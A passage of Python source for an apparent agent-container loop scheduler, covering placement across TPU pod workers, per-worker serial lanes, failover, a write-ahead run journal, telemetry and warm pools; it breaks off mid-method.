                    continue
                state = info.get("State") or {}
                if state.get("Running"):
                    continue
                self._finish_iteration(loop, int(state.get("ExitCode") or 0))
                if loop.status == "running":     # budget left: next iteration
                    self._guarded_start(loop)
            self._stop.wait(poll_s)
        if self._stop.is_set():
            self._halt_running()
        return self.loops

    def stop(self) -> None:
        self._stop.set()

    def _halt_running(self) -> None:
        for loop in self.loops:
            if loop.status != "running":
                continue
            try:
                loop.worker.require_engine().stop_container(loop.container_id, timeout=5)
            except ClawkerError:
                pass
            loop.status = "stopped"
            self.on_event(loop.agent, "stopped")

    def status(self) -> list[dict]:
        out = []
        for l in self.loops:
            row = l.summary()
            if self.anomaly_watch is not None:
                sc = self.anomaly_watch.score_for(l.agent)
                if sc is not None:
                    row["anomaly_z"] = round(sc.latest, 2)
            out.append(row)
        return out

    def cleanup(self, *, remove_containers: bool = False) -> None:
        for loop in self.loops:
            if remove_containers and loop.container_id:
                try:
                    loop.worker.require_engine().remove_container(
                        loop.container_id, force=True, volumes=True)
                except ClawkerError:
                    pass
