"""The loop scheduler: place, run, restart, and account N agent loops.

An *agent loop* is one autonomous harness container run repeatedly:
each iteration starts the container, waits for exit, records the
result, and re-starts until the iteration budget, a stop request, or
the failure ceiling.  ``--parallel N`` runs N loops at once, placed
across the runtime driver's workers:

- ``spread`` (default): round-robin across pod workers in TPU worker
  order -- one loop per worker VM on a v5e-8 with ``--parallel 8``,
  the BASELINE benchmark shape.
- ``pack``: fill worker 0 first (single-worker debugging).

Placement is the ONLY thing pod topology feeds (SURVEY.md 2.13: ICI
carries no control traffic); everything else is per-worker local.

Concurrency model (the fan-out used to be strictly serial, O(N * RTT)
on SSH-backed engines):

- **Per-worker lanes.**  Every worker gets one serial lane thread; all
  engine mutations for that worker (create, start, stop, remove, the
  batched poll) run on its lane.  Two agents on one worker can never
  race that worker's engine, while distinct workers proceed fully in
  parallel -- and a hung worker engine wedges only its own lane.
- **Batched polling.**  Instead of one ``inspect_container`` round-trip
  per agent per tick, each tick issues ONE ``list_containers`` filtered
  by the loop-run label per engine, then inspects only containers that
  actually stopped (to fetch their exit code).
- **Event-driven restarts.**  Each running iteration gets a blocking
  ``wait_container`` thread that wakes the run loop the moment the
  container exits, so the next iteration starts immediately instead of
  waiting out the poll interval; ``poll_s`` only bounds the fallback
  re-check cadence and stop() latency.
- **Ordered events.**  ``on_event`` callbacks now fire from lane,
  waiter, and anomaly-watch threads; a :class:`monitor.events.EventBus`
  serializes them so per-agent ordering still holds.

Per-iteration context rides a small state file written into the
container between restarts (env is immutable after create), so the
harness can see iteration number + loop id.  Consecutive-failure
ceiling stops a crash-looping agent from burning a worker forever.

Failover (the health subsystem, ``--failover``): a
:class:`~clawker_tpu.health.HealthMonitor` probes every pod worker while
run() drives the loops; when a worker's circuit breaker opens (K probe
failures, an unreachable poll, or a wedged lane), the loops placed
there are marked ``orphaned``, their containers best-effort halted on a
side thread (stop rides a dedicated never-pooled socket -- the pool of
a dead worker is exactly what not to wait on), and the policy decides
what happens next:

- ``migrate`` (default): re-place each orphan onto the least-loaded
  worker whose breaker is CLOSED (half-open workers are mid-trial and
  never receive migrations), preserving iteration count and the
  consecutive-failure ceiling across the move.
- ``wait``: orphans stay put until their worker's breaker closes again,
  then resume on it.
- ``fail``: orphans fail immediately (crash-only accounting).

A recovered worker (open -> half-open -> closed) rejoins the placement
set automatically.

Durability (``loop/journal.py``, docs/loop-resume.md): every state
transition -- placement chosen, container created, started, exited,
orphaned, migrated, budget reached -- is appended to a write-ahead
fsync-batched JSONL journal under ``logs/runs/<run>.journal`` BEFORE
the engine call it describes, with deterministic per-(run, slot)
container names and a placement-epoch label.  ``clawker loop --resume``
replays the journal and reconciles it against one label-scoped
``list_containers`` per worker: still-running containers are ADOPTED in
place (waiter threads re-attach, nothing restarts), exits the dead
scheduler never saw are accounted exactly once, created-but-never-
started launches finish, journaled-but-never-created placements
re-launch, unclaimed leftovers are swept as ghosts, and workers that
died while the CLI was down flow into the breaker/failover machinery
above.  The scheduler process is thereby no longer a single point of
failure: kill -9 mid-run costs at most the batched journal tail, which
reconcile re-derives from engine state.
"""

from __future__ import annotations

import contextlib
import dataclasses
import io
import queue
import tarfile
import threading
import time
from concurrent.futures import Future
from concurrent.futures import wait as futures_wait
from dataclasses import dataclass, field
from pathlib import Path

from .. import consts, logsetup, telemetry
from ..capacity import CapacityHooks
from ..chaos.seams import NULL_SEAMS
from ..config import Config
from ..engine.drivers import RuntimeDriver, Worker
from ..errors import ClawkerError, DriverError, NotFoundError
from ..fleet.inventory import pod_topology
from ..health import BREAKER_CLOSED, BREAKER_OPEN, HealthConfig, HealthMonitor
from ..monitor.events import (
    CAPACITY_DECISION,
    GITGUARD_DECISION,
    PLACEMENT_DECISION,
    STORAGE_FAULT,
    TRACE_SPAN,
    EventBus,
    GitguardDecisionEvent,
    PlacementEvent,
    StorageFaultEvent,
)
from ..monitor.pressure import DiskPressureMonitor, note_shed
from ..placement import (
    ADMISSION_REJECTED,
    AdmissionController,
    PlacementContext,
    get_policy,
    note_decision,
)
from ..monitor.ledger import FlightRecorder, flight_path
from ..runtime.names import container_name
from ..runtime.orchestrate import (
    AgentRuntime,
    CreateOptions,
    workspace_seed_tar,
)
from ..telemetry.spans import (
    SPAN_CREATE,
    SPAN_EXIT,
    SPAN_MIGRATE,
    SPAN_ORPHAN,
    SPAN_RESUME,
    SPAN_START,
    SPAN_WAIT,
    Tracer,
)
from ..tracing.context import TraceContext, use
from ..util import ids
from .journal import (
    REC_ADMIT_QUEUED,
    REC_ADOPTED,
    REC_CREATED,
    REC_EXITED,
    REC_GHOST,
    REC_LOOP_END,
    REC_MIGRATED,
    REC_ORPHANED,
    REC_PLACEMENT,
    REC_GITGUARD_DECISION,
    REC_GITGUARD_RULES,
    REC_POOL_REMOVE,
    REC_RESUME,
    REC_RUN,
    REC_SEED_SHIP,
    REC_SEED_TAR,
    REC_SEED_WORKTREE,
    REC_SHUTDOWN,
    REC_STARTED,
    REC_STORAGE_FAULT,
    AppendReceipt,
    JournalFault,
    JournalUnhealthy,
    NO_JOURNAL_RECEIPT,
    RunImage,
    RunJournal,
    journal_path,
    replay,
    retention_gc,
)
from .mergeq import MergeQueue
from .warmpool import WarmPool

log = logsetup.get("loop.scheduler")

# Lane telemetry (docs/telemetry.md): queue-wait vs execute time per
# worker -- the direct form of the signal wedge detection used to infer
# from future states (a healthy lane has near-zero queue wait; a wedged
# one shows queue time exploding while execute time flatlines).
_LANE_QUEUE_SECONDS = telemetry.histogram(
    "loop_lane_queue_seconds",
    "Time a lane task waited queued behind earlier tasks",
    labels=("worker",))
_LANE_EXECUTE_SECONDS = telemetry.histogram(
    "loop_lane_execute_seconds", "Time a lane task spent executing",
    labels=("worker",))
_ITERATIONS = telemetry.counter(
    "loop_iterations_total", "Completed loop iterations",
    labels=("status",))           # status: ok | failed
# resume telemetry (docs/loop-resume.md): how a journal replay landed --
# adoption is the cheap path (container kept running, zero engine
# mutations), everything else re-pays part of a cold start
_RESUMES = telemetry.counter(
    "loop_resumes_total", "Journal-replay resumes of loop runs")
_ADOPTIONS = telemetry.counter(
    "loop_adoptions_total",
    "Still-running containers adopted in place by --resume",
    labels=("worker",))
_GHOSTS = telemetry.counter(
    "loop_ghosts_swept_total",
    "Unjournaled leftover containers swept at resume reconcile",
    labels=("worker",))

FAILURE_CEILING = 3          # consecutive nonzero exits -> loop failed
LOOP_STATE_DIR = "/run/clawker"
HALT_DEADLINE_S = 10.0       # bounded halt/cleanup: a hung worker's lane
#                              must never wedge CLI shutdown
FAILOVER_POLICIES = ("migrate", "wait", "fail")
LANE_WEDGE_FLOOR_S = 2.0     # a poll future EXECUTING past max(4*poll_s,
#                              this) trips the worker's breaker
LAUNCH_WEDGE_S = 300.0       # a create/start/restart task EXECUTING this
#                              long trips the breaker too: catches a lane
#                              wedged inside a dedicated read-unbounded
#                              engine call (put_archive, start) on a
#                              daemon that still answers probes.  Must
#                              stay generous -- a first create legitimately
#                              includes an image pull.
ORPHAN_GRACE_S = 600.0       # an orphan with no placement for this long
#                              fails: total fleet death must terminate a
#                              non-interactive run, not hang it forever
STRAND_CEILING = 8           # consecutive stranded create/starts (across
#                              re-placements) before the loop fails: a
#                              DETERMINISTIC daemon 5xx (bad image cmd,
#                              disk full) must not churn strand->rescue->
#                              re-place forever -- probes keep succeeding
#                              so the breaker never opens for it

# container-list summary states meaning "iteration still in flight"
_ACTIVE_STATES = {"created", "running", "restarting", "paused"}


class _EngineUnreachable(ClawkerError):
    """A lane poll could not reach the worker's daemon at all.  Routed to
    the health breaker instead of failing loops: whether the loops die,
    wait, or migrate is the failover policy's call, not the poll's."""


@dataclass
class LoopSpec:
    parallel: int = 1
    iterations: int = 0              # per-agent budget; 0 = until stop()
    placement: str = "spread"        # spread | pack | topology
    tenant: str = "default"          # fairness class this run bills under
    tenant_weight: float = 1.0       # weighted-fair-queue share vs co-tenants
    tenant_max_inflight: int = 0     # per-tenant in-flight launch cap; 0 = none
    max_inflight_per_worker: int = 0  # admission token bucket; 0 = settings
    #                                  loop.placement.max_inflight_per_worker
    image: str = "@"
    prompt: str = ""                 # handed to the harness via env
    worktrees: bool = False          # one git worktree per agent loop
    gitguard: bool | None = None     # git-protocol firewall for worktree
    #                                  runs (docs/git-policy.md): None =
    #                                  settings gitguard.enable; only
    #                                  meaningful with worktrees
    workspace_mode: str = ""         # default: snapshot (isolation per
    #                                  loop); with --worktrees the default
    #                                  comes from settings
    #                                  loop.worktrees.workspace_mode (bind)
    agent_prefix: str = "loop"
    env: dict[str, str] = field(default_factory=dict)
    failover: str = "migrate"        # migrate | wait | fail
    journal: bool = True             # write-ahead run journal under
    #                                  logs/runs/<run>.journal: what
    #                                  `loop --resume` replays after a
    #                                  scheduler death (docs/loop-resume.md)
    telemetry: bool = True           # iteration spans + flight recorder
    #                                  (metrics registration is import-time
    #                                  and stays on either way)
    orphan_grace_s: float | None = None    # None = ORPHAN_GRACE_S; bounds
    #                                  how long an orphan may sit with no
    #                                  healthy placement before failing
    #                                  (0 = fail at the first rescue tick)
    warm_pool_depth: int = 0         # per-worker warm pool of pre-created
    #                                  containers placements adopt; 0 =
    #                                  disabled (docs/loop-warmpool.md).
    #                                  Ignored with bind-mode --worktrees
    #                                  (a pool member's mounts are staged
    #                                  before the adopting agent's worktree
    #                                  exists); snapshot-mode worktree runs
    #                                  pool normally -- content travels via
    #                                  the workspace seed, not the mount
    #                                  (docs/loop-worktrees.md#degrade-matrix)
    trace_parent: str = ""           # upstream traceparent (loopd's submit
    #                                  span): iteration roots carry its
    #                                  span id as attr ctx_parent so the
    #                                  cross-process merge can join the
    #                                  segments (docs/tracing.md)
    clock_offset_s: float = 0.0      # this scheduler's cumulative clock
    #                                  offset to the ROOT clock (the
    #                                  router's), estimated hop by hop;
    #                                  0 when this process is the root


@dataclass
class AgentLoop:
    agent: str
    worker: Worker
    container_id: str = ""
    iteration: int = 0
    consecutive_failures: int = 0
    exit_codes: list[int] = field(default_factory=list)
    status: str = "pending"          # pending|running|orphaned|done|failed|stopped
    worktree: Path | None = None
    fresh_container: bool = True     # next start needs the full bootstrap
    migrations: int = 0
    retry_at: float = 0.0            # rejected-with-backoff: the rescue
    #                                  pass honors the admission queue's
    #                                  retry_after_s instead of re-placing
    #                                  at the very next tick
    strands: int = 0                 # consecutive stranded create/starts
    #                                  (reset once an iteration starts)
    epoch: int = 0                   # bumped at orphan time: stale lane
    #                                  tasks for an earlier placement no-op
    abandoned: list[tuple[Worker, str]] = field(default_factory=list)
    #                                  containers left on dead workers

    def summary(self) -> dict:
        return {
            "agent": self.agent, "worker": self.worker.id,
            "status": self.status, "iteration": self.iteration,
            "exit_codes": list(self.exit_codes),
            "migrations": self.migrations,
        }


def place(workers: list[Worker], n: int, policy: str) -> list[Worker]:
    """n loop slots -> workers (legacy helper: a bare context with no
    health/latency/topology signal).  The scheduler itself plans through
    the placement subsystem with the live context -- see
    clawker_tpu/placement/policy.py and docs/loop-placement.md."""
    if not workers:
        raise ClawkerError("loop: no workers available")
    return get_policy(policy).plan(PlacementContext(workers=workers), n)


class _WorkerLane:
    """Serial executor for ONE worker's engine calls.

    Two agents placed on the same worker must never race that worker's
    engine, so each worker gets exactly one lane thread; distinct
    workers proceed in parallel.  A ``ThreadPoolExecutor(max_workers=1)``
    would do, except its threads are joined at interpreter exit -- one
    hung SSH engine would wedge the whole CLI shutdown.  A daemon thread
    plus explicit futures keeps a hung worker's damage confined to that
    worker.
    """

    def __init__(self, name: str):
        self.name = name
        self._q: queue.SimpleQueue = queue.SimpleQueue()
        self._thread = threading.Thread(target=self._drain, daemon=True,
                                        name=f"loop-lane-{name}")
        self._thread.start()

    def submit(self, fn, *args) -> Future:
        fut: Future = Future()
        self._q.put((fut, fn, args, time.monotonic()))
        return fut

    def close(self) -> None:
        self._q.put(None)

    def _drain(self) -> None:
        while True:
            item = self._q.get()
            if item is None:
                return
            fut, fn, args, t_submit = item
            if not fut.set_running_or_notify_cancel():
                continue
            t_run = time.monotonic()
            _LANE_QUEUE_SECONDS.labels(self.name).observe(t_run - t_submit)
            try:
                fut.set_result(fn(*args))
            except BaseException as e:   # the lane must survive any task
                fut.set_exception(e)
            finally:
                _LANE_EXECUTE_SECONDS.labels(self.name).observe(
                    time.monotonic() - t_run)


class LaneRegistry:
    """Get-or-create registry of per-worker serial lanes.

    Each scheduler used to own its lanes privately; the loopd daemon
    (docs/loopd.md) passes ONE registry to every run it hosts, so two
    co-tenant runs' engine mutations against a worker serialize on the
    same lane instead of racing from two lane threads.  ``retire``
    keeps the quarantine semantics: the wedged thread is abandoned for
    EVERY user of the lane (a wedged daemon is wedged for all runs),
    and the next ``lane()`` call builds a fresh thread.
    """

    def __init__(self):
        self._lock = threading.Lock()
        self.lanes: dict[str, _WorkerLane] = {}

    def lane(self, worker_id: str) -> _WorkerLane:
        # get-or-create must not race two lanes into existence for one
        # worker (admission dispatch runs on whichever thread released
        # a token)
        with self._lock:
            lane = self.lanes.get(worker_id)
            if lane is None:
                lane = _WorkerLane(worker_id)
                self.lanes[worker_id] = lane
            return lane

    def retire(self, worker_id: str) -> None:
        """Abandon the worker's (possibly wedged) lane thread; the next
        ``lane()`` call starts a fresh one.  Queued tasks on the old
        lane are epoch-guarded by their submitters and no-op when (if)
        the thread unblocks."""
        with self._lock:
            lane = self.lanes.pop(worker_id, None)
        if lane is not None:
            lane.close()

    def close_all(self) -> None:
        with self._lock:
            lanes, self.lanes = list(self.lanes.values()), {}
        for lane in lanes:
            lane.close()


class LoopScheduler:
    def __init__(self, cfg: Config, driver: RuntimeDriver, spec: LoopSpec,
                 *, on_event=None, health_config: HealthConfig | None = None,
                 run_id: str | None = None,
                 admission: AdmissionController | None = None,
                 lanes: LaneRegistry | None = None,
                 seams=None, executors=None):
        if spec.failover not in FAILOVER_POLICIES:
            raise ClawkerError(
                f"loop: unknown failover policy {spec.failover!r} "
                f"({'|'.join(FAILOVER_POLICIES)})")
        self.cfg = cfg
        self.driver = driver
        self.spec = spec
        # --- placement & admission (docs/loop-placement.md): the policy
        # plans/picks workers, the admission controller rates launches.
        # A SHARED controller (the `admission` param) is how two runs
        # co-tenant one pod in-process: both bill the same token buckets
        # and the weighted fair queue arbitrates between their tenants.
        ps = cfg.settings.loop.placement
        self.policy = get_policy(spec.placement)     # raises on unknown
        self.admission = admission if admission is not None else (
            AdmissionController(
                max_inflight_per_worker=(spec.max_inflight_per_worker
                                         or ps.max_inflight_per_worker),
                max_pending_per_worker=ps.max_pending_per_worker))
        self.admission.register_tenant(
            spec.tenant, weight=spec.tenant_weight,
            max_inflight=spec.tenant_max_inflight or ps.tenant_max_inflight)
        self._topology = None       # resolved lazily (driver worker count)
        # an explicit run_id is a RESUME: the journal, flight record, and
        # container names of the dead scheduler's run are all keyed by it
        self.loop_id = run_id or ids.short_id()
        self.loops: list[AgentLoop] = []
        # every event (lane threads, waiter threads, anomaly watch) rides
        # the bus so consumers see per-agent order despite the fan-out
        self.events = EventBus(on_event)
        self.on_event = self.events.emit
        self.anomaly_watch = None
        self.health: HealthMonitor | None = None   # live while run() runs
        self._health_config = health_config
        self._stop = threading.Event()
        self._wake = threading.Event()        # set by waiters on any exit
        self._git_lock = threading.Lock()     # worktree setup shares one repo
        # placement state (epoch / container_id / status transitions) is
        # mutated by lane threads (_create tail, _strand) AND the run
        # thread (_orphan_worker, _rescue_orphans): every check-then-act
        # on it rides this lock, or an orphan landing mid-create could
        # leak a container into neither container_id nor abandoned
        self._placement_lock = threading.Lock()
        # a SHARED registry (the `lanes` param) is how loopd serializes
        # several runs' engine calls per worker on one lane; a private
        # registry (the default) is owned -- and closed -- by this run
        self.lanes = lanes if lanes is not None else LaneRegistry()
        self._owns_lanes = lanes is None
        self._inflight: dict[str, Future] = {}   # agent -> launch HANDLE: the
        #                                          admission-to-completion
        #                                          future busy-tracking reads
        self._lane_task: dict[str, Future] = {}  # agent -> the dispatched
        #                                          lane future (wedge scan
        #                                          needs running(), which a
        #                                          queued handle can't know)
        self._waited: set[tuple[str, int]] = set()
        self._exit_hints: set[str] = set()    # workers with a fresh exit
        self._verdicts: queue.SimpleQueue = queue.SimpleQueue()
        self.launch_wedge_s = LAUNCH_WEDGE_S  # tests tighten these
        self.orphan_grace_s = (ORPHAN_GRACE_S if spec.orphan_grace_s is None
                               else spec.orphan_grace_s)
        self._orphan_since: dict[str, float] = {}   # agent -> first unplaceable
        self._halted: set[tuple[str, str]] = set()  # (wid, cid) stops that
        #                                             landed: recovery re-halts
        #                                             must not repeat them
        self._unreach: dict[str, int] = {}    # consecutive unreachable polls;
        #                                       reset on success, orphan, and
        #                                       recovery (a stale count must
        #                                       not condemn a healed worker)
        # --- telemetry: every iteration is a span tree (iteration ->
        # create/start/wait/exit|orphan|migrate), flushed to the per-run
        # flight recorder AND the bus as typed trace.span records.  On by
        # default: the recorder exists for the runs nobody planned to
        # debug.  See docs/telemetry.md.
        self.flight: FlightRecorder | None = None
        if spec.telemetry:
            try:
                fr_max = int(cfg.settings.telemetry.flight_recorder.max_bytes)
            except AttributeError:      # bare test cfgs without settings
                fr_max = 0
            self.flight = FlightRecorder(
                flight_path(cfg.logs_dir, self.loop_id), max_bytes=fr_max)
        self.tracer = Tracer(
            self.loop_id,
            on_span=self._record_span if spec.telemetry else None)
        # cumulative clock offset to the root clock (docs/tracing.md):
        # loopd stamps it on the spec for federated runs; executors chain
        # their per-channel estimates onto it before handing workerd its
        # own.  0 = this process IS the root clock.
        self._trace_offset_s = float(spec.clock_offset_s or 0.0)
        self._span_sinks: list = []     # extra structured-span consumers
        #                                 (the monitor shipper); tee'd in
        #                                 _record_span, never load-bearing
        self._queue_wait: dict[str, float] = {}   # agent -> launch queue s
        self._iter_started: dict[tuple[str, int], float] = {}  # wait-span t0
        # --- durability: the write-ahead run journal (docs/loop-resume.md).
        # Every placement/create/start/exit/orphan/migrate transition is
        # appended BEFORE the engine call it describes; `--resume`
        # replays it and reconciles against live container state.  A
        # resume APPENDS to the dead run's journal (run_id keys the path).
        self.journal: RunJournal | None = None
        # storage-fault state (docs/durability.md): "ok" until a durable
        # append cannot be made durable, then "degraded" (or the run
        # fail-stops, per loop.journal.on_fault) -- surfaced in
        # status()/loop --json/loopd status/fleet health
        self.durability = "ok"
        self.storage_faults = 0
        self._journal_on_fault = "degrade"
        self._in_storage_fault = False  # reentrancy: the fault handler
        #                                 journals, which can fault again
        if spec.journal:
            js = cfg.settings.loop.journal
            self._journal_on_fault = str(
                getattr(js, "on_fault", "degrade")) or "degrade"
            if js.enable:
                self.journal = RunJournal(
                    journal_path(cfg.logs_dir, self.loop_id),
                    fsync_batch_n=js.fsync_batch_n,
                    fsync_interval_s=js.fsync_interval_s,
                    on_fault=self._on_journal_fault)
        # disk-pressure ladder (docs/durability.md#ladder): ticked on
        # the run thread; flight spans and shipper tees consult the
        # shed set, the hard watermark runs the retention GC
        self.pressure: DiskPressureMonitor | None = None
        try:
            sps = cfg.settings.loop.storage_pressure
        except AttributeError:          # bare test cfgs without settings
            sps = None
        if sps is not None and sps.enable:
            keep = int(sps.retention_runs)
            self.pressure = DiskPressureMonitor(
                cfg.logs_dir, soft_free_pct=sps.soft_free_pct,
                hard_free_pct=sps.hard_free_pct,
                check_interval_s=sps.check_interval_s,
                gc=lambda: retention_gc(cfg.logs_dir, keep=keep),
                on_event=self._on_pressure_event)
        # --- warm pool (docs/loop-warmpool.md): pre-created containers
        # this run's placements adopt instead of paying a full create.
        # Refills bill a dedicated low-weight admission tenant so the
        # WFQ hands real placements the worker's tokens first.
        self.warmpool: WarmPool | None = None
        if spec.warm_pool_depth > 0 and not self._bind_worktrees():
            wps = cfg.settings.loop.warm_pool
            self.warmpool = WarmPool(
                self.loop_id, depth=spec.warm_pool_depth,
                max_age_s=wps.max_age_s, journal=self._journal)
            self.admission.register_tenant(
                self.warmpool.tenant, weight=wps.tenant_weight)
        # --- chaos (docs/chaos.md): the named crash-seam registry.  The
        # scheduler FIRES seams at journaled transition boundaries; the
        # default registry is never armed and fire() is a no-op check.
        # Chaos tests / `clawker chaos` arm hooks that kill() + abort
        # mid-flight -- the enumerable replacement for ad-hoc stubbing.
        self.seams = seams if seams is not None else NULL_SEAMS
        # --- workerd (docs/workerd.md): the WorkerExecutor seam.  An
        # ExecutorSet maps workers to live channels into their
        # worker-resident launch daemons: dispatch sends batched intents
        # there instead of running engine calls on the local lane, and
        # the event stream drives the SAME journal records, spans, and
        # status transitions.  None (the default) or a worker with no
        # live channel = today's direct in-process path, unchanged.
        # BIND-mode worktree runs stay direct: a bind worktree is a
        # host-local mount workerd cannot stage.  Snapshot-mode worktree
        # runs dispatch normally -- their content travels as a
        # content-addressed workspace seed the worker-local store
        # resolves (docs/loop-worktrees.md).  The set is caller-owned
        # (CLI, bench, chaos runner) -- the scheduler never closes it.
        self.executors = executors
        if executors is not None:
            executors.bind(self)
        # --- elastic capacity (docs/elastic-capacity.md): the rank-2
        # controller attached via attach_capacity; ticked on the run
        # thread for in-process (--no-daemon) runs, exactly like the
        # pool tick.  None = every capacity knob stays static.
        self.capacity = None
        self._remote_exits: queue.SimpleQueue = queue.SimpleQueue()
        self._placed_workers: set[str] = set()  # every worker a launch or
        #                           refill was EVER submitted to: the
        #                           cleanup sweep set.  Final placements +
        #                           abandoned lists miss a worker whose
        #                           remote create's `created` event died
        #                           with a workerd kill after every loop
        #                           migrated off it (chaos-found leak)
        self._aborted = False       # kill(): crash seam, skip all shutdown
        self._image: RunImage | None = None   # journal image being resumed
        self._extra_workers: list[Worker] = []  # journaled workers missing
        #                           from the current fleet: engine-less
        #                           stand-ins whose pre-opened breakers
        #                           route their loops into failover
        self._shutdown_journaled = False
        # --- workspace-seed fan-out (docs/loop-worktrees.md): the tree
        # walk is paid once per fan-out (content-addressed TTL cache in
        # runtime/orchestrate), journaled write-ahead per DIGEST, and
        # shipped once per (digest, worker) into the workerd-resident
        # seed store so N creates on a worker fan out locally.
        self._seed_lock = threading.Lock()
        self._seeds_journaled: set[str] = set()     # REC_SEED_TAR dedup
        self._worktrees_journaled: set[str] = set()  # REC_SEED_WORKTREE dedup
        self._branches: dict[str, str] = {}   # agent -> its worktree branch
        # --- merge queue (docs/loop-worktrees.md#merge-queue): agent
        # branches land serially on the run's integration branch at
        # iteration end; conflict losers resubmit with the admission
        # controller's backoff hint.  Run-thread only, under _git_lock.
        self.mergeq: MergeQueue | None = None
        if spec.worktrees:
            wts = cfg.settings.loop.worktrees
            if wts.merge_queue:
                self.mergeq = MergeQueue(retry_s=wts.merge_retry_s,
                                         max_attempts=wts.merge_attempts)
        # --- gitguard (docs/git-policy.md): the git-protocol firewall
        # for worktree swarms.  start() journals + installs run-scoped
        # egress rules (git hosts via the guard, ssh/git-protocol
        # denied) and brings the proxy up on a hardened unix socket;
        # cleanup()/--resume tear down exactly the journaled rule keys.
        self.gitguard = None                    # GitguardServer when armed
        self._gitguard_rule_keys: list[str] = []
        self._gitguard_decisions: dict[str, int] = {}

    def _bind_worktrees(self) -> bool:
        """True when this run's worktrees are HOST-LOCAL bind mounts --
        the shape that blocks workerd dispatch and warm pooling (the
        daemon cannot stage a host path; a pool member's mounts predate
        the adopting agent's worktree)."""
        return self.spec.worktrees and self._effective_mode() == "bind"

    def _effective_mode(self) -> str:
        """The workspace mode this run's creates resolve to: the
        explicit spec value, else the worktree settings default (bind)
        for --worktrees runs, else snapshot."""
        if self.spec.workspace_mode:
            return self.spec.workspace_mode
        if self.spec.worktrees:
            return self.cfg.settings.loop.worktrees.workspace_mode or "bind"
        return "snapshot"

    def _record_span(self, rec) -> None:
        if self.flight is not None:
            if (self.pressure is not None
                    and self.pressure.is_shedding("flight")):
                # soft-watermark shed (docs/durability.md#ladder): the
                # span is post-mortem evidence, the journal is
                # correctness evidence -- under pressure the span goes
                self.flight.dropped += 1
                note_shed("flight")
            else:
                self.flight.append(rec.to_json())
        self.events.emit(rec.agent, TRACE_SPAN, rec.detail())
        if (self.pressure is not None
                and self.pressure.is_shedding("shipper")
                and self._span_sinks):
            note_shed("shipper", len(self._span_sinks))
            return
        for sink in self._span_sinks:
            try:
                sink(rec)
            except Exception:   # noqa: BLE001 -- telemetry never raises
                pass            # into the scheduler hot path

    def _journal(self, kind: str, *, durable: bool = False,
                 **fields) -> AppendReceipt:
        """Append one journal record and return its receipt.  A
        disabled journal (or one killed by kill()) answers with the
        no-journal receipt: there is no WAL, so there is no durability
        contract to break.  After kill() nothing lands: a SIGKILLed
        process writes no records, and chaos replays must see exactly
        the journal a real crash would leave.  Storage faults surface
        through the journal's ``on_fault`` -> :meth:`_on_journal_fault`,
        so even receipt-ignoring bookkeeping appends degrade loudly."""
        if self.journal is None or self._aborted:
            return NO_JOURNAL_RECEIPT
        return self.journal.append(kind, durable=durable, **fields)

    def _durable_ok(self, receipt: AppendReceipt, what: str) -> bool:
        """Consume a durable append's receipt: True when the record is
        on disk.  On a broken write-ahead promise the degrade/fail-stop
        policy has already run via ``on_fault``; this just tells the
        call site whether to proceed (most sites log and continue
        degraded; placement sites strand the launch instead)."""
        if receipt.synced:
            return True
        log.warning("loop %s: durable journal append (%s) not durable: %s",
                    self.loop_id, what, receipt.error or "unsynced")
        return False

    def _on_journal_fault(self, fault: JournalFault) -> None:
        """The journal's storage-fault callback (docs/durability.md):
        every fault -- recovered or not -- lands on the event bus as a
        typed ``storage.fault``; an UNRECOVERED fault flips the run to
        degraded-durability (journaled best-effort) or fail-stops it,
        per ``loop.journal.on_fault``.  Defensive about construction
        order: the journal can fault inside its own __init__."""
        if getattr(self, "_in_storage_fault", True):
            return              # a fault while handling a fault: counted
        self._in_storage_fault = True
        try:
            self.storage_faults += 1
            action = "recovered" if fault.recovered else (
                "fail_stop" if self._journal_on_fault == "fail"
                else "degraded")
            try:
                self.on_event("scheduler", STORAGE_FAULT, StorageFaultEvent(
                    fault.op, action, fault.dropped, fault.error).detail())
            except Exception:   # noqa: BLE001 -- surfacing must never
                pass            # compound the fault
            if fault.recovered:
                return
            if self.durability == "ok":
                self.durability = "degraded"
                # journaled degraded-durability state: best-effort (the
                # journal may still be unhealthy; the record lands on a
                # later recovery's re-ring or not at all -- the event +
                # metric above are the guaranteed signals)
                self._journal(REC_STORAGE_FAULT, op=fault.op,
                              dropped=fault.dropped, error=fault.error)
            if self._journal_on_fault == "fail":
                self.durability = "failed"
                log.error("loop %s: fail-stop on storage fault (%s: %s)",
                          self.loop_id, fault.op, fault.error)
                stop = getattr(self, "_stop", None)
                if stop is not None:
                    self.stop()
        finally:
            self._in_storage_fault = False

    def _on_pressure_event(self, ev: StorageFaultEvent) -> None:
        try:
            self.on_event("scheduler", STORAGE_FAULT, ev.detail())
        except Exception:       # noqa: BLE001
            pass

    def storage_summary(self) -> dict:
        """Durability + disk-pressure state for status surfaces
        (``loop --json``, loopd status, ``fleet health`` STORAGE)."""
        j = self.journal
        doc: dict = {
            "durability": self.durability,
            "faults": self.storage_faults,
            "journal": (None if j is None else {
                "healthy": j.healthy, "dropped": j.dropped,
                "recoveries": j.recoveries, "poisoned": j.poisoned,
                "last_error": j.last_error}),
        }
        if self.pressure is not None:
            doc["pressure"] = self.pressure.summary()
        return doc

    def attach_anomaly_watch(self, watch) -> None:
        """Surface fleet anomaly scores (analytics.runtime.AnomalyWatch)
        in status() and as scheduler events when an agent crosses the
        threshold.  Optional: the loop runs identically without it."""
        self.anomaly_watch = watch

        def emit(container: str, z: float) -> None:
            # score rows are keyed by CONTAINER name (netlogger field);
            # events must carry the loop agent name like every other
            # scheduler event, so map back via dot segments
            segments = container.split(".")
            agent = next((l.agent for l in self.loops if l.agent in segments),
                         container)
            self.on_event(agent, "anomaly", f"egress z-score {z:.1f}")

        watch.on_anomaly = emit
        # a broken scorer must not fail silently behind stale scores
        watch.on_error = lambda msg: self.on_event(
            "scheduler", "anomaly_watch_error", msg)

    def attach_sentinel(self, sentinel) -> None:
        """Attach the online fleet sentinel (clawker_tpu/sentinel,
        docs/analytics-online.md): status rows and the dashboard reuse
        the AnomalyWatch surface; the bus tap feeds its behavioral
        features; typed ``anomaly.flag`` events ride this run's bus and
        its ticks land in this run's flight recorder.  Strictly
        observe-only -- the sentinel holds no engine/placement/
        admission reference, and nothing in the scheduler reads its
        verdicts back into a decision."""
        self.attach_anomaly_watch(sentinel)
        sentinel.bind_run(run_id=self.loop_id, events=self.events,
                          flight=self.flight)

    def attach_capacity(self, controller) -> None:
        """Wire the elastic-capacity controller
        (:class:`~clawker_tpu.capacity.CapacityController`,
        docs/elastic-capacity.md) to this run's surfaces.

        The controller is rank-2 and never imports the scheduler: it
        acts through callables over the warm pool's per-worker targets,
        the admission controller's token caps and queue mode, this
